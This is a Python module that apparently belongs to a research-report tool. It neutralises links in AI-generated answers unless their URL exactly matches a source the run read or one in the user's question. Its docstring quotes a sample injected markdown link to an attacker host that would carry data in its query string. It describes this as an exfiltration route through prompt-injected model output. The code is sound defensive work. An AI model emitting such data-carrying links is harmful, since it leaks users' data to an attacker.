"""Which links an answer may make live: only the URLs of the run's own sources.

The answer is model output, and model output never chooses URLs: an injected
``[details](https://attacker.example/?d=<data>)`` in an answer is a one-click leak wherever the
answer is shown as markup (the HTML and markdown reports, the terminal). A link stays live only
when its URL is exactly the URL of a ref of the run (a web page the run read) or appears in the
user's question; any other URL is shown as text. Exact, not normalised: a page's own URL with
an extra query parameter can carry data to that page's author.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping

from refgate.report.cards import is_http, source_of

#: An http(s) URL in text (stops at whitespace, brackets, quotes and backticks).
URL_IN_TEXT = re.compile(r"https?://[^\s<>()\[\]`\"']+", re.I)
#: A link reference definition line: ``[label]: url`` (indent, label, URL).
_LINK_DEFINITION = re.compile(r"^(\s{0,3})\[([^\]]+)\]:\s*<?([^\s>]*)>?")
#: The tail of an inline markdown link, any scheme (``javascript:``, ``data:``, ``file:`` too):
#: ``](url)``, ``](url(with)parens)`` or ``](<url> "title")``.
_LINK_TAIL = re.compile(
    r"\]\(\s*<?((?:[^\s<>()]|\([^\s<>()]*\))+)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)", re.I
)


def allowed_urls(refs: Mapping[str, object], trusted: Iterable[str] = ()) -> frozenset[str]:
    """The URLs an answer may link: every ref's http(s) source URL (``refs``: ``Ref`` objects
    or their dicts), and URLs in ``trusted`` text (the user's question)."""
    urls: set[str] = set()
    for ref in refs.values():
        data = ref.model_dump(mode="json") if hasattr(ref, "model_dump") else ref
        if isinstance(data, Mapping) and is_http(url := source_of(data)["url"]):
            urls.add(url)
    for text in trusted:
        urls.update(m.group(0).rstrip(".,;:!?") for m in URL_IN_TEXT.finditer(str(text or "")))
    return frozenset(urls)


def link_allowed(url: str, allowed: frozenset[str]) -> bool:
    """True when ``url`` may be a live link in an answer."""
    url = url.strip()
    return is_http(url) and url in allowed


def inert_urls(text: str, allowed: frozenset[str]) -> str:
    """``text`` with every bare http(s) URL not ``allowed`` put in a code span (trailing
    punctuation stays outside)."""

    def bare(m: re.Match[str]) -> str:
        url = m.group(0).rstrip(".,;:!?")
        rest = m.group(0)[len(url) :]
        return m.group(0) if url in allowed else f"`{url}`{rest}"

    return URL_IN_TEXT.sub(bare, text)


def inert_links(text: str, allowed: frozenset[str]) -> str:
    """Markdown ``text`` (no code in it) with every link, link definition or bare URL whose URL
    is not ``allowed`` made text: the link's ``]`` escaped and the URL put in a code span (so
    neither CommonMark nor GitHub's bare-URL autolinks make it live)."""
    d = _LINK_DEFINITION.match(text)
    if d and d.group(3) not in allowed:
        colon = text.index(":", d.end(2))
        return f"{d.group(1)}\\[{d.group(2)}\\]" + inert_urls(text[colon:], allowed)
    out, pos = [], 0
    for m in _LINK_TAIL.finditer(text):
        out.append(inert_urls(text[pos : m.start()], allowed))
        url = m.group(1)
        out.append(m.group(0) if link_allowed(url, allowed) else f"\\] (`{url}`)")
        pos = m.end()
    out.append(inert_urls(text[pos:], allowed))
    return "".join(out)


def research_urls(report: Mapping[str, object]) -> frozenset[str]:
    """The URLs a research report (``build_report``'s shape) may link: the run's own sources
    (pages its searches returned: read, failed or withheld), the sources of its claims, and
    URLs in the question. Everything else in it (a finding's text, a vote's counter-source, a
    caveat) is model or page output and stays text."""
    urls: set[str] = set()
    for key, field in (
        ("sources", "url"),
        ("killedSources", "url"),
        ("confirmed", "source"),
        ("refuted", "source"),
        ("unverified", "source"),
    ):
        items = report.get(key)
        for item in items if isinstance(items, list | tuple) else ():
            if isinstance(item, Mapping) and isinstance(item.get(field), str):
                urls.add(item[field])
    question = str(report.get("question") or "")
    urls.update(m.group(0).rstrip(".,;:!?") for m in URL_IN_TEXT.finditer(question))
    return frozenset(u for u in urls if is_http(u))
